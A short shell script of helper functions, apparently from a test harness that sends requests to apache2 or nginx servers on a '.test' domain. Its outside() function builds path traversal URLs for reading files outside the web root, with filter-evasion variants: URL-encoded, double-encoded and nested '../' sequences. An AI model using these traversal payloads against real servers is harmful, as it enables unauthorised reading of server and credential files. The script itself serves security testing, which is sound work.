# Shell functions for the scripts of those who ask.
cd /root

# get URL [AGENT]: prints the status (000: no answer); the body is in the file "body".
get() {
	: >body
	case $IMPLEMENTATION in
	curl) curl -s --path-as-is ${2:+-A "$2"} -o body -w '%{http_code}\n' "$1" || true ;;
	wget)
		wget -S -O body --tries=1 ${2:+-U "$2"} "$1" 2>headers || true
		sed -n 's,^  HTTP/1.1 \([0-9]*\) .*,\1,p' headers | grep . || echo 000
		;;
	esac
}

site=http://www.$SITE.test

# page NAME: the address of a page, by its name as it is to be sent
page() {
	case $SERVER_IMPLEMENTATION in
	apache2) echo "$site/page.php?name=$1" ;;
	nginx) echo "$site/pages/$1" ;;
	esac
}

# outside PATH: the address that leads to a file outside the pages, for those who attack.
outside() {
	case $SERVER_IMPLEMENTATION:$EVASION in
	*:none) up=../ ;;
	nginx:encoded) up=%2e%2e/ ;; # it sees the slash only as it is
	*:encoded) up=%2e%2e%2f ;;
	*:double) up=%252e%252e%252f ;;
	*:nested) up=..././ ;;
	esac
	case $SERVER_IMPLEMENTATION in
	apache2) page "$(awk -v up="$up" -v depth="$DEPTH" 'BEGIN { while (depth--) printf "%s", up }')${1#/}" ;;
	nginx) echo "$site/pages$up$(echo "${1#/srv}" | cut -c2-)" ;;
	esac
}
